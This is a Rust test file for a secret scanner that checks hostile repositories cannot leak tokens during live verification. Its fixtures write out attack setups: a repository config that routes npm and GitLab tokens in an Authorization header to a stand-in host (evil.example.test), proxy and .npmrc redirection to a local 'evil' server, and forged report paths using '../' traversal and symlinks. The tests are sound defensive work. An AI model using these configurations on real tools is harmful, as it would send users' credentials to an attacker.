//! A hostile repository cannot move a byte of a secret anywhere: a listener on this machine stays silent.

use std::fs;

use crate::sandbox::{Sandbox, secret};
use crate::server::{Answer, Server};

fn npm(seed: u64) -> String {
    format!("NPM_TOKEN={}\n", secret("npm-token", seed))
}

#[test]
fn nothing_that_a_repository_says_chooses_a_host() {
    let (evil, good) = (Server::silent(), Server::new(|_| Answer::json(200, r#"{"username":"acme"}"#)));
    let sandbox = Sandbox::new();
    let address = evil.address();
    let host = format!("127.0.0.1:{}", evil.port);
    let config = format!(
        "[live_hosts]\n\"registry.npmjs.org\" = \"{address}\"\n\"gitlab.com\" = \"{address}\"\n\n\
         [[live]]\nid = \"npm-token\"\nurl = \"https://evil.example.test/x\"\nheaders = {{ Authorization = \"{{secret}}\" }}\n\
         live = [\"200 json\"]\nreferences = [\"https://evil.example.test/docs\"]\n"
    );
    fs::write(sandbox.repo().join(".keysweep.toml"), config).unwrap();
    fs::write(
        sandbox.repo().join(".npmrc"),
        format!("registry={address}\n//{host}/:_authToken={}\n", secret("npm-token", 1)),
    )
    .unwrap();
    let near =
        format!("{}GITLAB_HOST={host}\nGITLAB_URL={address}\nGITLAB_TOKEN={}\n", npm(1), secret("gitlab-pat", 1));
    sandbox.commit("app.env", &near);
    for (name, value) in
        [("http.proxy", &*address), ("https.proxy", &address), ("http.https://registry.npmjs.org.proxy", &address)]
    {
        sandbox.git(&["config", name, value]);
    }
    sandbox.hosts(&[("registry.npmjs.org", good.address()), ("gitlab.com", good.address())]);
    assert!(!sandbox.swept().is_empty());
    let run = sandbox.keysweep(&["live", "--all", "--yes"]);
    assert!(evil.asked().is_empty(), "{}", run.text());
    assert!(good.asked().len() >= 2, "{}", run.text());
    // Without a configuration of the user's own, the hosts are those of the rules.
    let plan = sandbox.keysweep_with(&["live", "--all", "--dry-run"], &[]);
    assert!(plan.text().contains("https://registry.npmjs.org/-/whoami"), "{}", plan.text());
    assert!(plan.text().contains("https://gitlab.com/api/v4/"), "{}", plan.text());
    assert!(!plan.text().contains(&host) && !plan.text().contains("evil.example.test"), "{}", plan.text());
}

#[test]
fn a_configuration_within_the_repository_is_not_ones_own() {
    let evil = Server::silent();
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(2));
    let inside = sandbox.repo().join("ci.toml");
    fs::write(&inside, format!("[live_hosts]\n\"registry.npmjs.org\" = \"{}\"\n", evil.address())).unwrap();
    sandbox.swept();
    let plan = sandbox.keysweep_with(&["live", "--all", "--dry-run"], &[("KEYSWEEP_CONFIG", &inside)]);
    assert!(plan.text().contains("https://registry.npmjs.org/-/whoami"), "{}", plan.text());
    assert!(plan.text().contains("was not used"), "{}", plan.text());
    // A link from elsewhere leads into the repository all the same.
    #[cfg(unix)]
    {
        let link = sandbox.home().join("link.toml");
        std::os::unix::fs::symlink(&inside, &link).unwrap();
        let plan = sandbox.keysweep_with(&["live", "--all", "--dry-run"], &[("KEYSWEEP_CONFIG", &link)]);
        assert!(plan.text().contains("was not used"), "{}", plan.text());
    }
}

#[test]
fn a_redirect_is_not_followed() {
    let evil = Server::silent();
    let location = format!("{}/x", evil.address());
    for status in [301, 302, 303, 307, 308] {
        let location = location.clone();
        let good = Server::new(move |_| Answer::Http(status, vec![("location", location.clone())], String::new()));
        let sandbox = Sandbox::new();
        sandbox.commit("app.env", &npm(3));
        sandbox.hosts(&[("registry.npmjs.org", good.address())]);
        sandbox.swept();
        let run = sandbox.keysweep(&["live", "--all", "--yes", "--format", "json"]);
        assert_eq!(run.json()["asked"][0]["word"], "unknown", "{status}: {}", run.text());
        assert_eq!((good.asked().len(), evil.asked().len()), (1, 0), "{status}");
    }
}

#[test]
fn plain_http_to_this_machine_goes_through_no_proxy() {
    let (evil, good) = (Server::silent(), Server::new(|_| Answer::json(200, r#"{"username":"acme"}"#)));
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(4));
    sandbox.hosts(&[("registry.npmjs.org", good.address())]);
    sandbox.swept();
    let (own, proxy) = (sandbox.own_config(), evil.address());
    let proxy = proxy.as_ref();
    let variables = [
        ("KEYSWEEP_CONFIG", &*own),
        ("HTTPS_PROXY", proxy),
        ("HTTP_PROXY", proxy),
        ("ALL_PROXY", proxy),
        ("http_proxy", proxy),
    ];
    let run = sandbox.keysweep_with(&["live", "--all", "--yes"], &variables);
    assert_eq!((good.asked().len(), evil.asked().len()), (1, 0), "{}", run.text());
}

#[test]
fn what_goes_through_a_proxy_is_encrypted_for_the_provider() {
    let proxy = Server::new(|_| Answer::Closed);
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(5));
    sandbox.swept();
    let run = sandbox.keysweep_with(&["live", "--all", "--yes"], &[("HTTPS_PROXY", proxy.address().as_ref())]);
    let asked = proxy.asked();
    assert_eq!(asked.len(), 1, "{}", run.text());
    assert!(asked[0].line.starts_with("CONNECT registry.npmjs.org:443 "), "{}", asked[0].line);
    let all = format!("{}{}{}", asked[0].line, asked[0].headers, asked[0].body);
    assert!(!all.contains(&secret("npm-token", 5)[4..]), "{all}");
}

#[test]
fn a_forged_report_leads_to_no_file_elsewhere() {
    let server = Server::silent();
    let sandbox = Sandbox::new();
    sandbox.commit("README", "x\n");
    fs::write(sandbox.repo().join("app.env"), npm(6)).unwrap();
    sandbox.keysweep_with(&["files", "."], &[]);
    fs::rename(sandbox.repo().join("app.env"), sandbox.home().join("app.env")).unwrap();
    let path = sandbox.repo().join(".git/keysweep/last-files.json");
    let report = fs::read_to_string(&path).unwrap();
    let elsewhere = sandbox.home().join("app.env");
    for forged in ["../home/app.env", elsewhere.to_str().unwrap(), "link.env"] {
        fs::write(&path, report.replace("\"path\":\"app.env\"", &format!("\"path\":\"{forged}\""))).unwrap();
        #[cfg(unix)]
        if forged == "link.env" {
            std::os::unix::fs::symlink(&elsewhere, sandbox.repo().join(forged)).unwrap();
        }
        sandbox.hosts(&[("registry.npmjs.org", server.address())]);
        let run = sandbox.keysweep(&["live", "--all", "--yes"]);
        assert!(server.asked().is_empty(), "{forged}: {}", run.text());
    }
}

/// No command but one opens a socket, and that one only once somebody agreed.
#[cfg(target_os = "linux")]
#[test]
fn no_socket_is_opened_without_consent() {
    let server = Server::silent();
    let sandbox = Sandbox::new();
    // A container may forbid to trace even what one has started.
    let tried = sandbox.sealed("strace").args(["-qq", "-e", "trace=none", "true"]).output();
    if !tried.is_ok_and(|output| output.status.success()) {
        eprintln!("NOT TESTED: strace cannot trace here, so whether a socket is opened without consent was not seen");
        return;
    }
    sandbox.commit("app.env", &npm(7));
    sandbox.hosts(&[("registry.npmjs.org", server.address())]);
    let sockets = |args: &[&str]| {
        let log = sandbox.home().join("trace");
        let mut strace = sandbox.sealed("strace");
        strace.args(["-f", "-qq", "-e", "trace=socket,connect,sendto", "-o"]).arg(&log);
        strace.arg(env!("CARGO_BIN_EXE_keysweep")).args(args).env("KEYSWEEP_CONFIG", sandbox.own_config());
        strace.output().unwrap_or_else(|why| panic!("strace has to be on PATH: {why}"));
        fs::read_to_string(log).unwrap()
    };
    let commands: [&[&str]; 8] = [
        &["history"],
        &["staged"],
        &["files", "."],
        &["range", "HEAD^!"],
        &["explain", "npm-token"],
        &["verify", "--finding", "aaaaaaaaaa"],
        &["live", "--all", "--dry-run"],
        &["live", "--all"],
    ];
    for command in commands {
        let seen = sockets(command);
        assert!(!seen.contains("socket("), "{command:?}: {seen}");
    }
    assert!(sockets(&["live", "--all", "--yes"]).contains("socket("), "the trace sees nothing");
}
